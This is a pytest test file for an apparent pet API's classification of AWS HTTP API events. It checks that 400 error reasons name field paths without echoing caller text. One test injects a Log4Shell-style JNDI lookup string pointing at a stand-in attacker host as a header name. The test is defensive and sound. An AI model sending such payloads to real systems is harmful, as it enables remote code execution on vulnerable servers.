"""Sorting invocations (petsage_api.invocation) by the HTTP API event model (test_http_api_event.py).

What counts as an HTTP API request, and the reason a malformed one is refused, word for word: the
field paths of its first problems, never a name or value the caller chose. The 400 is answered and
logged by the handler (test_handler.py); each test here reads the reason in both places.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from petsage_api.invocation import Classification, InvocationKind, classify
from tests.conftest import load_event, logged, malformed
from tests.contract import LIVENESS

Invoke = Callable[[Any], Any]


def answer_400(invoke: Invoke, event: Any, caplog: pytest.LogCaptureFixture) -> str:
    """The 400's message, checked to be the one logged as the reason."""
    response = invoke(event)
    assert response["statusCode"] == 400
    assert response["isBase64Encoded"] is False
    assert response["headers"]["Content-Type"] == "application/json"
    body = json.loads(response["body"])
    assert body["statusCode"] == 400
    assert logged(caplog, "Rejected malformed HTTP API event")["reason"] == body["message"]
    return str(body["message"])


# --- what counts as an HTTP API request --------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "message"),
    [
        pytest.param(
            {"requestContext": {"http": {"method": "GET"}}},
            "malformed HTTP API event: version: Field required; rawPath: Field required; "
            "requestContext.stage: Field required",
            id="only requestContext",
        ),
        pytest.param(
            {"rawPath": "/api/v1/health"},
            "malformed HTTP API event: version: Field required; requestContext: Field required",
            id="only rawPath",
        ),
        pytest.param(
            {"routeKey": "GET /api/v1/health"},
            "malformed HTTP API event: version: Field required; rawPath: Field required; "
            "requestContext: Field required",
            id="only routeKey",
        ),
        pytest.param(
            {"httpMethod": "GET"},
            "malformed HTTP API event: version: Field required; rawPath: Field required; "
            "requestContext: Field required",
            id="only httpMethod (REST v1)",
        ),
    ],
)
def test_an_event_with_any_one_key_of_a_request_is_a_400_never_a_liveness_answer(
    invoke: Invoke, event: dict[str, Any], message: str, caplog: pytest.LogCaptureFixture
) -> None:
    assert answer_400(invoke, event, caplog) == message


@pytest.mark.parametrize(
    ("event", "reason"),
    [
        (None, "not an HTTP API request (NoneType event)"),
        ({}, "not an HTTP API request (dict event)"),
        ({"version": "2.0", "detail-type": "Scheduled Event"}, "not an HTTP API request (dict event)"),
        ([{"rawPath": "/"}], "not an HTTP API request (list event)"),
        ("GET /api/v1/health", "not an HTTP API request (str event)"),
    ],
)
def test_a_direct_invocation_is_logged_with_the_type_of_what_arrived(
    invoke: Invoke, event: Any, reason: str, caplog: pytest.LogCaptureFixture
) -> None:
    assert invoke(event) == LIVENESS
    assert logged(caplog, "Direct invocation answered with liveness")["reason"] == reason


def test_a_well_formed_request_is_sorted_as_http() -> None:
    assert classify(load_event("health")) == Classification(InvocationKind.HTTP)


# --- the 400's reason: field paths, never caller text ----------------------------------------------


@pytest.mark.parametrize(
    ("event", "message"),
    [
        pytest.param(
            malformed(lambda e: e.update(pathParameters={"petId": 1})),
            "malformed HTTP API event: pathParameters.*: Input should be a valid string",
            id="path parameter names are the caller's",
        ),
        pytest.param(
            malformed(lambda e: e.update(queryStringParameters={"token": ["a"]})),
            "malformed HTTP API event: queryStringParameters.*: Input should be a valid string",
            id="query names are the caller's",
        ),
        pytest.param(
            malformed(lambda e: e.update(headers="x")),
            "malformed HTTP API event: headers: Input should be a valid dictionary",
            id="a map of the wrong type is named itself",
        ),
        pytest.param(
            malformed(lambda e: e.update(cookies=["session=a", 1])),
            "malformed HTTP API event: cookies.*: Input should be a valid string",
            id="a list element by no index",
        ),
        pytest.param(
            malformed(lambda e: e["requestContext"]["http"].update(method="")),
            "malformed HTTP API event: requestContext.http.method: String should have at least 1 character",
            id="nested model fields by name",
        ),
    ],
)
def test_a_400_names_the_field_path_with_caller_chosen_names_masked(
    invoke: Invoke, event: dict[str, Any], message: str, caplog: pytest.LogCaptureFixture
) -> None:
    assert answer_400(invoke, event, caplog) == message


def test_a_400_names_the_first_three_problems_in_event_order(invoke: Invoke, caplog: pytest.LogCaptureFixture) -> None:
    event = malformed(lambda e: e.update(rawPath=1, headers="x", cookies=[1], body=2, isBase64Encoded="no"))
    assert answer_400(invoke, event, caplog) == (
        "malformed HTTP API event: rawPath: Input should be a valid string; "
        "headers: Input should be a valid dictionary; cookies.*: Input should be a valid string"
    )


@pytest.mark.parametrize("field", ["headers", "queryStringParameters"])
def test_a_400_masks_even_ordinary_looking_caller_names(invoke: Invoke, field: str) -> None:
    event = load_event("health")
    event[field] = {"Authorization": 1}
    message = json.loads(invoke(event)["body"])["message"]
    assert f"{field}.*: Input should be a valid string" in message
    assert "Authorization" not in message


def test_a_400_never_echoes_caller_chosen_names_or_values(invoke: Invoke) -> None:
    event = load_event("health")
    event["headers"]["${jndi:ldap://attacker.example/a}"] = ["not", "a", "string"]
    body = invoke(event)["body"]
    assert "jndi" not in body
    assert "attacker" not in body
